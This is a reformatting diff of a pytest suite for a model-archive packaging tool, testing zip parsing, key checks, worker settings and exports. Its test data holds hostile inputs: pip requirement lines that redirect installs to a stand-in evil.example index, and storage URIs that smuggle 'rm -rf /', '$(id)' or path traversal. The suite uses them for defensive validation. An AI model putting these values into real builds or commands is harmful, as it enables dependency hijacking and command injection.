@@ -103,8 +103,11 @@ class JavaZipReader:
         subprocess.run(["javac", "-d", str(where), str(where / "ZipList.java")], check=True, timeout=120)
         self.process = subprocess.Popen(
             ["java", "-Xmx256m", "-cp", str(where), "ZipList"],
-            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, start_new_session=True,
-        )  # fmt: skip
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            text=True,
+            start_new_session=True,
+        )
 
     def entries(self, path: Path) -> Optional[List[tuple]]:
         """[(name, sha256 or 'D')] as ZipInputStream reads them, or None when it fails."""
@@ -216,9 +219,25 @@ def build(entries: List[Entry], prefix: bytes = b"", comment: bytes = b"", betwe
     directory = bytearray()
     for e, offset in zip(entries, offsets):
         directory += struct.pack(
-            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, e.flags, e.method, 0, 0x21, e.crc, e.csize, e.usize,
-            len(e.name), len(e.central_extra), 0, 0, 0, 0, offset,
-        )  # fmt: skip
+            "<4sHHHHHHIIIHHHHHII",
+            b"PK\x01\x02",
+            20,
+            20,
+            e.flags,
+            e.method,
+            0,
+            0x21,
+            e.crc,
+            e.csize,
+            e.usize,
+            len(e.name),
+            len(e.central_extra),
+            0,
+            0,
+            0,
+            0,
+            offset,
+        )
         directory += e.name + e.central_extra
     count = len(entries)
     end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), len(comment))
@@ -237,9 +256,13 @@ def small_mar(tmp_path_factory) -> Path:
     root = tmp_path_factory.mktemp("small")
     (root / "labels.json").write_text('{"0": "cat", "1": "dog"}')
     options = mar.PackageOptions(
-        model_name="tiny", handler="image_classifier", serialized_file=str(stand_in_torchscript(root / "tiny.pt")),
-        extra_files=[str(root / "labels.json")], export_path=str(root / "store"), force=True,
-    )  # fmt: skip
+        model_name="tiny",
+        handler="image_classifier",
+        serialized_file=str(stand_in_torchscript(root / "tiny.pt")),
+        extra_files=[str(root / "labels.json")],
+        export_path=str(root / "store"),
+        force=True,
+    )
     return mar.package(options)
 
 
@@ -268,12 +291,29 @@ def mutate(entries: List[Entry], data: st.DataObject) -> dict:
     e = entries[k]
     kind = data.draw(
         st.sampled_from(
-            ["hidden", "duplicate", "local name", "local flags", "local method", "local sizes", "zip64", "descriptor",
-             "prefix", "trailing", "comment", "gap", "pk inside stored", "junk extra", "directory", "empty name",
-             "names", "byte flip"]
+            [
+                "hidden",
+                "duplicate",
+                "local name",
+                "local flags",
+                "local method",
+                "local sizes",
+                "zip64",
+                "descriptor",
+                "prefix",
+                "trailing",
+                "comment",
+                "gap",
+                "pk inside stored",
+                "junk extra",
+                "directory",
+                "empty name",
+                "names",
+                "byte flip",
+            ]
         ),
         label="kind",
-    )  # fmt: skip
+    )
     build_args = {"entries": entries}
     if kind == "hidden":
         name = data.draw(st.sampled_from([HIDDEN_NAME, "labels.json", "evil.py", "MAR-INF/MANIFEST.json"]))
@@ -342,8 +382,11 @@ def mutant(args: dict, data: st.DataObject) -> bytes:
     if trailing:
         out += b"trailing bytes"
     if args["flip"] is not False:  # one byte of a header changed (local or central, and the end record)
-        headers = [i for i in range(len(out) - 4) if out[i : i + 2] == b"PK" and out[i + 2 : i + 4] in (
-            b"\x03\x04", b"\x01\x02", b"\x05\x06")]  # fmt: skip
+        headers = [
+            i
+            for i in range(len(out) - 4)
+            if out[i : i + 2] == b"PK" and out[i + 2 : i + 4] in (b"\x03\x04", b"\x01\x02", b"\x05\x06")
+        ]
         header = headers[args["flip"] % len(headers)]
         at = header + data.draw(st.integers(4, 45), label="offset")
         version_needed = out[header + 2 : header + 4] == b"\x01\x02" and at in (header + 6, header + 7)
@@ -579,10 +622,14 @@ def tgz_with_second_manifest(store: Path, requirements: bytes) -> Path:
     store.parent.mkdir(parents=True, exist_ok=True)
     (store.parent / "labels.json").write_text('{"0": "cat"}')
     options = mar.PackageOptions(
-        model_name="tiny", handler="image_classifier", archive_format="tgz", export_path=str(store), force=True,
+        model_name="tiny",
+        handler="image_classifier",
+        archive_format="tgz",
+        export_path=str(store),
+        force=True,
         serialized_file=str(stand_in_torchscript(store.parent / "tiny.pt")),
         extra_files=[str(store.parent / "labels.json")],
-    )  # fmt: skip
+    )
     archive = mar.package(options)
     with tarfile.open(archive) as src:
         members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src.getmembers()]
@@ -664,10 +711,15 @@ def key_files(where: Path) -> dict:
     name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "tsctl")])
     now = datetime.datetime.now(datetime.timezone.utc)
     cert = (
-        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(signer.public_key())
-        .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1))
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(name)
+        .public_key(signer.public_key())
+        .serial_number(1)
+        .not_valid_before(now)
+        .not_valid_after(now + datetime.timedelta(days=1))
         .sign(signer, hashes.SHA256())
-    )  # fmt: skip
+    )
     files = {
         "signer private": signer.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()),
         "signer public": signer.public_key().public_bytes(pem, spki),
@@ -713,10 +765,15 @@ def signed_small(tmp_path_factory):
     made = {}
     for version in ("1.0", "2.0"):
         options = mar.PackageOptions(
-            model_name="tiny", handler="image_classifier", version=version, force=True,
-            serialized_file=str(stand_in_torchscript(root / "tiny.pt")), extra_files=[str(root / "labels.json")],
-            export_path=str(root / f"v{version}"), sign_key=str(keys["signer private"]),
-        )  # fmt: skip
+            model_name="tiny",
+            handler="image_classifier",
+            version=version,
+            force=True,
+            serialized_file=str(stand_in_torchscript(root / "tiny.pt")),
+            extra_files=[str(root / "labels.json")],
+            export_path=str(root / f"v{version}"),
+            sign_key=str(keys["signer private"]),
+        )
         made[version] = mar.package(options)
     return {"root": root, "keys": keys, "v1": made["1.0"], "v2": made["2.0"]}
 
@@ -724,9 +781,27 @@ def signed_small(tmp_path_factory):
 GOOD_KEYS = ("signer public", "symlink to the key")
 
 
-@pytest.mark.parametrize("what", ["signer private", "encrypted private", "certificate", "rsa public",
-                                  "ed25519 public", "P-192 public", "DER public", "empty", "text", "binary", "huge",
-                                  "key after 64 KB", "directory", "missing", "fifo", "dev null"])  # fmt: skip
+@pytest.mark.parametrize(
+    "what",
+    [
+        "signer private",
+        "encrypted private",
+        "certificate",
+        "rsa public",
+        "ed25519 public",
+        "P-192 public",
+        "DER public",
+        "empty",
+        "text",
+        "binary",
+        "huge",
+        "key after 64 KB",
+        "directory",
+        "missing",
+        "fifo",
+        "dev null",
+    ],
+)
 def test_any_other_file_given_as_the_public_key_is_one_line(signed_small, what):
     key = signed_small["keys"][what]
     for command in (["verify", signed_small["v2"]], ["run", signed_small["v2"], signed_small["root"] / "labels.json"]):
@@ -900,29 +975,79 @@ def plain(data: bytes) -> bool:
 
 
 REQUIREMENT_TEXTS = [
-    "numpy>=1.24,<3\n", "numpy \\\n>=1.24\n", "numpy>=1 \\\n--index-url https://evil.example/simple\n",
-    "numpy # \\\n--index-url https://evil.example/simple\n", "--find-links https://evil.example/wheels\nnumpy\n",
-    "-f ../wheels\n", "-f /tmp/wheels\n", "-f ~/wheels\n", "-f wheels\n", "--find-links=file:///tmp\n",
-    "-i https://evil.example/simple\n", "--index-url=https://evil.example/simple\n",
-    "--extra-index-url https://evil.example/simple\n", "--trusted-host evil.example\n", "--pre\nnumpy\n",
-    "-c constraints.txt\n", "--constraint constraints.txt\n", "-r other.txt\n", "-rother.txt\n",
-    "--requirement=other.txt\n", "-e .\n", "-e git+https://evil.example/x.git#egg=x\n", "--editable=.\n",
-    "./local_pkg\n", "local_pkg.whl\n", "https://evil.example/x.whl\n", "git+https://evil.example/x.git\n",
-    "x @ https://evil.example/x.whl\n", "x[extra] @ file:///tmp/x\n", "x @ file:../x\n",
-    "numpy; python_version >= '3.8'\n", "numpy; sys_platform == 'linux' and python_version < '4'\n",
-    "numpy[extra1,extra2]>=1\n", "numpy>=1 --hash=sha256:00 --hash=sha256:11\n", "numpy\r\nscipy\r\n",
-    "numpy\rscipy\n", "numpy\x0c--index-url https://evil.example/simple\n", "numpy\x0b-e .\n",
-    "numpy\u2028-e .\n", "numpy\x85-e .\n", "\ufeffnumpy\n", "num\u200bpy\n", "ｎｕｍｐｙ\n", "numpy\t# comment\n",
-    "numpy#not-a-comment\n", "# --index-url https://evil.example/simple\nnumpy\n",
+    "numpy>=1.24,<3\n",
+    "numpy \\\n>=1.24\n",
+    "numpy>=1 \\\n--index-url https://evil.example/simple\n",
+    "numpy # \\\n--index-url https://evil.example/simple\n",
+    "--find-links https://evil.example/wheels\nnumpy\n",
+    "-f ../wheels\n",
+    "-f /tmp/wheels\n",
+    "-f ~/wheels\n",
+    "-f wheels\n",
+    "--find-links=file:///tmp\n",
+    "-i https://evil.example/simple\n",
+    "--index-url=https://evil.example/simple\n",
+    "--extra-index-url https://evil.example/simple\n",
+    "--trusted-host evil.example\n",
+    "--pre\nnumpy\n",
+    "-c constraints.txt\n",
+    "--constraint constraints.txt\n",
+    "-r other.txt\n",
+    "-rother.txt\n",
+    "--requirement=other.txt\n",
+    "-e .\n",
+    "-e git+https://evil.example/x.git#egg=x\n",
+    "--editable=.\n",
+    "./local_pkg\n",
+    "local_pkg.whl\n",
+    "https://evil.example/x.whl\n",
+    "git+https://evil.example/x.git\n",
+    "x @ https://evil.example/x.whl\n",
+    "x[extra] @ file:///tmp/x\n",
+    "x @ file:../x\n",
+    "numpy; python_version >= '3.8'\n",
+    "numpy; sys_platform == 'linux' and python_version < '4'\n",
+    "numpy[extra1,extra2]>=1\n",
+    "numpy>=1 --hash=sha256:00 --hash=sha256:11\n",
+    "numpy\r\nscipy\r\n",
+    "numpy\rscipy\n",
+    "numpy\x0c--index-url https://evil.example/simple\n",
+    "numpy\x0b-e .\n",
+    "numpy\u2028-e .\n",
+    "numpy\x85-e .\n",
+    "\ufeffnumpy\n",
+    "num\u200bpy\n",
+    "ｎｕｍｐｙ\n",
+    "numpy\t# comment\n",
+    "numpy#not-a-comment\n",
+    "# --index-url https://evil.example/simple\nnumpy\n",
     "numpy --hash=sha256:00 \\\n --hash=sha256:11 -e git+https://evil.example/x.git#egg=x\n",
-    "numpy==${EVIL_VERSION}\n", "numpy; os_name == '${HOME}'\n", "x @ ${URL}\n", "--no-index\n", "--prefer-binary\n",
-    "--only-binary :all:\n", "--only-binary\n", "--require-hashes\n", "--no-binary :all:\n", "--use-feature=x\n",
-    "--config-settings k=v\nnumpy\n", "numpy --config-settings=k=v\n", "numpy --global-option=--x\n",
-    "-Z\n", "--\n", "-\n", "numpy ===--index-url\n", "numpy === x\n", "x ; extra == 'a' \\\n",
-    "--no-index -e git+https://evil.example/x.git#egg=x\n", "--find-links wheels --index-url https://evil.example\n",
+    "numpy==${EVIL_VERSION}\n",
+    "numpy; os_name == '${HOME}'\n",
+    "x @ ${URL}\n",
+    "--no-index\n",
+    "--prefer-binary\n",
+    "--only-binary :all:\n",
+    "--only-binary\n",
+    "--require-hashes\n",
+    "--no-binary :all:\n",
+    "--use-feature=x\n",
+    "--config-settings k=v\nnumpy\n",
+    "numpy --config-settings=k=v\n",
+    "numpy --global-option=--x\n",
+    "-Z\n",
+    "--\n",
+    "-\n",
+    "numpy ===--index-url\n",
+    "numpy === x\n",
+    "x ; extra == 'a' \\\n",
+    "--no-index -e git+https://evil.example/x.git#egg=x\n",
+    "--find-links wheels --index-url https://evil.example\n",
     "--prefer-binary --extra-index-url=https://evil.example/simple\nnumpy\n",
-    "# vim: set fileencoding=utf-8 :\nnumpy\n", "# -*- coding: latin-1 -*-\nnumpy\n", "\n# coding=cp1252\nnumpy\n",
-]  # fmt: skip
+    "# vim: set fileencoding=utf-8 :\nnumpy\n",
+    "# -*- coding: latin-1 -*-\nnumpy\n",
+    "\n# coding=cp1252\nnumpy\n",
+]
 
 
 @pytest.mark.parametrize("text", REQUIREMENT_TEXTS)
@@ -977,9 +1102,13 @@ def test_package_writes_only_what_it_checked_into_the_archive(tmp_path, case):
     source.write_bytes(HIDDEN_REQUIREMENTS[case].encode())
     (tmp_path / "labels.json").write_text("{}")
     options = mar.PackageOptions(
-        model_name="tiny", handler="image_classifier", export_path=str(tmp_path / "store"), force=True,
-        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")), requirements_file=str(source),
-    )  # fmt: skip
+        model_name="tiny",
+        handler="image_classifier",
+        export_path=str(tmp_path / "store"),
+        force=True,
+        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")),
+        requirements_file=str(source),
+    )
     try:
         archive = mar.package(options)  # accepted: check() found nothing but comments or plain requirements
     except UserError as exc:
@@ -1001,9 +1130,13 @@ def test_the_image_requirements_of_both_exports_hold_only_checked_lines(tmp_path
     source = tmp_path / "requirements.txt"
     source.write_text("packaging>=20\n")
     options = mar.PackageOptions(
-        model_name="tiny", handler="image_classifier", export_path=str(tmp_path / "tree" / "model-store"),
-        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")), requirements_file=str(source), force=True,
-    )  # fmt: skip
+        model_name="tiny",
+        handler="image_classifier",
+        export_path=str(tmp_path / "tree" / "model-store"),
+        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")),
+        requirements_file=str(source),
+        force=True,
+    )
     packaged = mar.package(options)
     hidden = ("".join(HIDDEN_REQUIREMENTS.values()) + "packaging>=20\n").encode()
     mar.rewrite_archive(packaged, tmp_path / "tiny.mar", {"requirements.txt": hidden})
@@ -1013,17 +1146,24 @@ def test_the_image_requirements_of_both_exports_hold_only_checked_lines(tmp_path
     exports = {
         "kserve": lambda: kserve.export(
             kserve.ExportOptions(
-                out=str(tmp_path / "kserve"), name="demo", storage_uri="pvc://models/demo", config=str(config),
-                model_store=str(tmp_path / "tree" / "model-store"), engine="tsctl", image="registry.example/tsctl:1",
+                out=str(tmp_path / "kserve"),
+                name="demo",
+                storage_uri="pvc://models/demo",
+                config=str(config),
+                model_store=str(tmp_path / "tree" / "model-store"),
+                engine="tsctl",
+                image="registry.example/tsctl:1",
             )
         ),
         "seldon": lambda: seldon.export(
             seldon.SeldonOptions(
-                out=str(tmp_path / "seldon"), image="registry.example/mlserver:1", config=str(config),
+                out=str(tmp_path / "seldon"),
+                image="registry.example/mlserver:1",
+                config=str(config),
                 model_store=str(tmp_path / "tree" / "model-store"),
             )
         ),
-    }  # fmt: skip
+    }
     for out, export in exports.items():
         try:
             export()
@@ -1039,12 +1179,22 @@ def test_the_image_requirements_of_both_exports_hold_only_checked_lines(tmp_path
 
 # ---- worker settings ------------------------------------------------------------------------------------------
 BAD_SETTINGS = {  # model-config.yaml text -> the key the refusal must name
-    "batchSize: 0": "batchSize", "batchSize: -1": "batchSize", "batchSize: true": "batchSize",
-    "batchSize: 4.0": "batchSize", "batchSize: '4'": "batchSize", "batchSize: .inf": "batchSize",
-    "batchSize: ~": "batchSize", "batchSize: [4]": "batchSize", "maxBatchDelay: -5": "maxBatchDelay",
-    "responseTimeout: 0": "responseTimeout", "minWorkers: 0": "minWorkers", "maxWorkers: 0": "maxWorkers",
-    "minWorkers: 4\nmaxWorkers: 2": "minWorkers", "minWorkers: 1e3": "minWorkers", "maxWorkers: 0x0": "maxWorkers",
-}  # fmt: skip
+    "batchSize: 0": "batchSize",
+    "batchSize: -1": "batchSize",
+    "batchSize: true": "batchSize",
+    "batchSize: 4.0": "batchSize",
+    "batchSize: '4'": "batchSize",
+    "batchSize: .inf": "batchSize",
+    "batchSize: ~": "batchSize",
+    "batchSize: [4]": "batchSize",
+    "maxBatchDelay: -5": "maxBatchDelay",
+    "responseTimeout: 0": "responseTimeout",
+    "minWorkers: 0": "minWorkers",
+    "maxWorkers: 0": "maxWorkers",
+    "minWorkers: 4\nmaxWorkers: 2": "minWorkers",
+    "minWorkers: 1e3": "minWorkers",
+    "maxWorkers: 0x0": "maxWorkers",
+}
 # TorchServe reads each setting as a Java Integer (its ModelConfig: "should be positive int", a log line only):
 # YAML reads 2147483648 as a Long, which TorchServe ignores as it ignores 0.
 OVERFLOWING = {"batchSize: 2147483648": "batchSize", "responseTimeout: 99999999999999999999": "responseTimeout"}
@@ -1054,8 +1204,19 @@ def package_with_config(tmp_path: Path, text: str) -> subprocess.CompletedProces
     config = tmp_path / "model-config.yaml"
     config.write_text(text + "\n")
     model = stand_in_torchscript(tmp_path / "tiny.pt")
-    return tsctl("package", "--model-name", "tiny", "--handler", "image_classifier", "--serialized-file", model,
-                 "--config-file", config, "--export-path", tmp_path / "store")  # fmt: skip
+    return tsctl(
+        "package",
+        "--model-name",
+        "tiny",
+        "--handler",
+        "image_classifier",
+        "--serialized-file",
+        model,
+        "--config-file",
+        config,
+        "--export-path",
+        tmp_path / "store",
+    )
 
 
 @pytest.mark.parametrize(
@@ -1073,10 +1234,13 @@ def test_config_refuses_worker_flags_and_archives_naming_the_key(tmp_path):
     assert package_with_config(tmp_path, "batchSize: 4\nminWorkers: 2\nmaxWorkers: 2").returncode == 0
     shutil.move(tmp_path / "store", store)
     for flags, key in (
-        (["--min-workers", "0"], "--min-workers"), (["--batch-size", "0"], "--batch-size"),
-        (["--max-workers", "1"], "maxWorkers"), (["--min-workers", "3", "--max-workers", "2"], "min"),
-        (["--response-timeout", "-1"], "--response-timeout"), (["--max-batch-delay", "-1"], "--max-batch-delay"),
-    ):  # fmt: skip
+        (["--min-workers", "0"], "--min-workers"),
+        (["--batch-size", "0"], "--batch-size"),
+        (["--max-workers", "1"], "maxWorkers"),
+        (["--min-workers", "3", "--max-workers", "2"], "min"),
+        (["--response-timeout", "-1"], "--response-timeout"),
+        (["--max-batch-delay", "-1"], "--max-batch-delay"),
+    ):
         done = tsctl("config", "--model-store", store, "--output", tmp_path / "c.properties", *flags)
         assert done.returncode == 2 and key in done.stderr and "Traceback" not in done.stderr, done.stderr
         assert len(done.stderr.strip().splitlines()) == 1 or done.stderr.startswith("Usage:"), done.stderr  # click's
@@ -1087,12 +1251,32 @@ def test_config_refuses_worker_flags_and_archives_naming_the_key(tmp_path):
 # ---- --storage-uri ---------------------------------------------------------------------------------------------
 @pytest.mark.parametrize(
     "uri",
-    ["pvc://claim/../x", "pvc://claim/a/../../x", "pvc://claim//etc", "pvc://claim/./x", "pvc://claim/x/..",
-     "pvc://claim/x\\..\\y", "pvc://claim/x;rm -rf /", "pvc://claim/$(id)", "pvc://claim/`id`", "pvc://claim/x\ny",
-     "pvc://claim/x y", "pvc://claim/..%2fx", "pvc://claim/x//", "pvc://../x", "pvc://claim/%2e%2e/x",
-     "pvc://claim/\u2024\u2024/x", "pvc://claim/x\u202e", "pvc:///x", "s3://bucket/x", "pvc://cl aim/x",
-     "pvc://claim/x?y=1", "pvc://claim/x#y", "PVC://claim/x"],
-)  # fmt: skip
+    [
+        "pvc://claim/../x",
+        "pvc://claim/a/../../x",
+        "pvc://claim//etc",
+        "pvc://claim/./x",
+        "pvc://claim/x/..",
+        "pvc://claim/x\\..\\y",
+        "pvc://claim/x;rm -rf /",
+        "pvc://claim/$(id)",
+        "pvc://claim/`id`",
+        "pvc://claim/x\ny",
+        "pvc://claim/x y",
+        "pvc://claim/..%2fx",
+        "pvc://claim/x//",
+        "pvc://../x",
+        "pvc://claim/%2e%2e/x",
+        "pvc://claim/\u2024\u2024/x",
+        "pvc://claim/x\u202e",
+        "pvc:///x",
+        "s3://bucket/x",
+        "pvc://cl aim/x",
+        "pvc://claim/x?y=1",
+        "pvc://claim/x#y",
+        "PVC://claim/x",
+    ],
+)
 def test_a_storage_uri_outside_its_claim_is_one_line(uri):
     from archiver.errors import UserError
     from archiver.export.kserve import storage
@@ -1124,22 +1308,48 @@ def mistakes(tmp_path_factory) -> Path:
 
 PACKAGE = "package --model-name m --handler image_classifier --serialized-file {w}/tiny.pt --export-path {w}/out"
 JSON_MISTAKES = [
-    "init ../x", "init x --from nope", "package", PACKAGE + " --extra-files {w}/missing",
-    PACKAGE + " --requirements-file {w}/adir", PACKAGE + " --requirements-file {w}/latin1.txt",
-    PACKAGE + " --config-file {w}/bad.yaml", PACKAGE + " --config-file /dev/zero", PACKAGE + " --archive-format rar",
-    PACKAGE + " --sign-key {w}/adir", PACKAGE + " --version ../1", PACKAGE + " --extra-files {w}/fifo",
-    "inspect {w}/adir", "inspect /dev/null", "inspect {w}/fifo", "inspect {w}/afile", "inspect {w}/store/broken.mar",
-    "config --model-store {w}/missing", "config --model-store {w}/store", "serve --engine nope",
-    "serve --config {w}/missing", "predict m {w}/missing", "predict m {w}/adir", "verify {w}/missing.mar",
-    "verify {w}/afile --url http://[::1", "verify {w}/afile --expect-version 2", "run {w}/afile {w}/missing",
-    "bench m --sweep-batch a,b", "bench m --home {w}/missing",
-    "export kserve {w}/ek --name x --storage-uri pvc://c/../x", "export kserve {w}/ek --name x --split bad",
-    "export seldon {w}/es --ab bad", "export seldon {w}/es --image x --model-store {w}/store",
-]  # fmt: skip
+    "init ../x",
+    "init x --from nope",
+    "package",
+    PACKAGE + " --extra-files {w}/missing",
+    PACKAGE + " --requirements-file {w}/adir",
+    PACKAGE + " --requirements-file {w}/latin1.txt",
+    PACKAGE + " --config-file {w}/bad.yaml",
+    PACKAGE + " --config-file /dev/zero",
+    PACKAGE + " --archive-format rar",
+    PACKAGE + " --sign-key {w}/adir",
+    PACKAGE + " --version ../1",
+    PACKAGE + " --extra-files {w}/fifo",
+    "inspect {w}/adir",
+    "inspect /dev/null",
+    "inspect {w}/fifo",
+    "inspect {w}/afile",
+    "inspect {w}/store/broken.mar",
+    "config --model-store {w}/missing",
+    "config --model-store {w}/store",
+    "serve --engine nope",
+    "serve --config {w}/missing",
+    "predict m {w}/missing",
+    "predict m {w}/adir",
+    "verify {w}/missing.mar",
+    "verify {w}/afile --url http://[::1",
+    "verify {w}/afile --expect-version 2",
+    "run {w}/afile {w}/missing",
+    "bench m --sweep-batch a,b",
+    "bench m --home {w}/missing",
+    "export kserve {w}/ek --name x --storage-uri pvc://c/../x",
+    "export kserve {w}/ek --name x --split bad",
+    "export seldon {w}/es --ab bad",
+    "export seldon {w}/es --image x --model-store {w}/store",
+]
 JSON_MISTAKES += [  # each was a traceback, a hang or a memory hog: a file option's file read unchecked
-    PACKAGE + " --config-file {w}/adir", PACKAGE + " --config-file {w}/fifo", PACKAGE + " --requirements-file {w}/fifo",
-    PACKAGE + " --requirements-file /dev/zero", PACKAGE + " --sign-key {w}/fifo", PACKAGE + " --sign-key /dev/zero",
-]  # fmt: skip
+    PACKAGE + " --config-file {w}/adir",
+    PACKAGE + " --config-file {w}/fifo",
+    PACKAGE + " --requirements-file {w}/fifo",
+    PACKAGE + " --requirements-file /dev/zero",
+    PACKAGE + " --sign-key {w}/fifo",
+    PACKAGE + " --sign-key /dev/zero",
+]
 
 
 @pytest.mark.parametrize("command", JSON_MISTAKES)
